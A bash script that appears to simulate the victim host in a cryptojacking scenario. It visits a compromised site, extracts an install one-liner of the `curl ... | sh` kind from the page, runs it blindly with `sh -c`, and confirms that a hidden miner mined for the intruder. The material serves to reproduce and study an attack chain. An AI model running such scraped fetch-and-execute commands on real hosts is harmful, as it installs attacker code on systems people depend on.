#!/bin/bash
# victim.sh - the workload of the `cryptojacking` scenario: the victim host.
#
# Its administrator visits the (compromised) project site with a browser's
# user agent - the home page, its style sheet, the install page - copies
# the install one-liner from the page and runs it, as root, in a shell:
# `curl -fsSL .../install.sh | sh` (or wget). The "installer" is the
# intruder's loader: it drops a miner into a hidden folder and starts it in
# the background. From then on the host mines for the intruder's wallet
# without anyone looking; this script only waits for the miner to stop
# (it stops by itself after its configured duration) and reads its totals.
#
#   SITE_URL      scheme://host of the site
#   PAGE_PATH     the install page
#   BROWSER_UA    the browser's user agent
#   THINK         seconds between the page visits
#   DELAY         seconds before the first visit
#   INSTALL_DIR   where the loader puts the miner (to find its pid and totals)
#   WAIT_MAX      seconds to wait for the miner at most
# Exit 0 when the loader ran, the miner started and the pool accepted at
# least one share; 1 otherwise (with the miner's log).
set -uo pipefail

: "${SITE_URL:?}" "${PAGE_PATH:?}" "${INSTALL_DIR:?}"
UA=${BROWSER_UA:-Mozilla/5.0}
THINK=${THINK:-1}
WAIT_MAX=${WAIT_MAX:-60}
fail() {
    echo "victim: FAILED: $*" >&2
    [ -s "$INSTALL_DIR/.log" ] && { echo "---- miner log ----" >&2; cat "$INSTALL_DIR/.log" >&2; }
    exit 1
}

sleep "${DELAY:-0}"
browse() { # browse PATH -> the page on stdout
    curl -sk --compressed -A "$UA" -H 'Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8' \
        -H 'Accept-Language: en-US,en;q=0.5' --max-time 20 -f "$SITE_URL$1"
}
browse / >/tmp/home.html || fail "cannot load $SITE_URL/"
curl -sk -A "$UA" --max-time 20 -f -e "$SITE_URL/" -o /dev/null "$SITE_URL/static/style.css" || fail "no style sheet"
sleep "$THINK"
browse "$PAGE_PATH" >/tmp/install.html || fail "cannot load $SITE_URL$PAGE_PATH"
# the one-liner between <code> and </code>
cmd=$(sed -n 's:.*<code>\(.*| sh\)</code>.*:\1:p' /tmp/install.html | head -n 1 | sed 's/&amp;/\&/g; s/&lt;/</g; s/&gt;/>/g')
[ -n "$cmd" ] || fail "no install command on the page"
echo "victim: running the install command from the page: $cmd"
sleep "$THINK"
started=$(date +%s)
sh -c "$cmd" || fail "the install command failed"

# the miner now runs in the background, detached from this shell
for _ in $(seq 50); do [ -s "$INSTALL_DIR/.pid" ] && break; sleep 0.1; done
pid=$(cat "$INSTALL_DIR/.pid" 2>/dev/null) || fail "no miner started"
sleep 1
echo "victim: a process $pid ($(cat /proc/"$pid"/comm 2>/dev/null)) is using the CPU: $(tr '\0' ' ' 2>/dev/null </proc/"$pid"/cmdline)"
while [ -e "/proc/$pid" ] && [ $(($(date +%s) - started)) -lt "$WAIT_MAX" ]; do sleep 0.5; done
[ -e "/proc/$pid" ] && fail "the miner still runs after $WAIT_MAX s"
stats=$INSTALL_DIR/.stats.json
[ -s "$stats" ] || fail "the miner left no totals"
echo "victim: miner totals: $(cat "$stats")"
accepted=$(python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["accepted"])' "$stats")
[ "$accepted" -gt 0 ] || fail "no share was accepted"
echo "---- miner log ----"
cat "$INSTALL_DIR/.log"
echo "victim: mined for the intruder, $accepted share(s) accepted"
